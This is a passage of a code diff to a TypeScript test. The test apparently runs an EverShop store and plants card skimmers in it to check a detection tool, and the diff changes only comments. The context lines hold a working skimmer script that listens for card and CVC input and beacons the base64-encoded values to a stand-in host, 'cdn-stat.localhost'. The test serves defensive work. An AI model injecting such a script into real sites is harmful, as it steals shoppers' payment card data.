@@ -1,4 +1,4 @@
-// A complete shop that nobody here wrote: from a product to its payment step, with skimmers planted on the way, and no order.
+// EverShop, a complete shop of other authors: from a product to its payment step, with planted skimmers, and without an order.
 import { mkdtemp, readFile, rm } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
@@ -8,7 +8,7 @@ import { run } from '../packages/cli/test/helpers.ts'
 import { type EverShop, freePort, startEverShop } from './shops/evershop.ts'
 import { type Planted, plantIn } from './shops/plant.ts'
 
-/** A host that is not the shop's, at the same port. */
+/** A host other than the shop's, at the same port. */
 const thief = 'cdn-stat.localhost'
 const skimmer = (own: string) => `addEventListener('input', ({ target }) => {
   if (/card|cvc/.test(target.name)) navigator.sendBeacon('http://${thief}:' + location.port + '/collected?${own}', btoa(target.name + '=' + target.value))
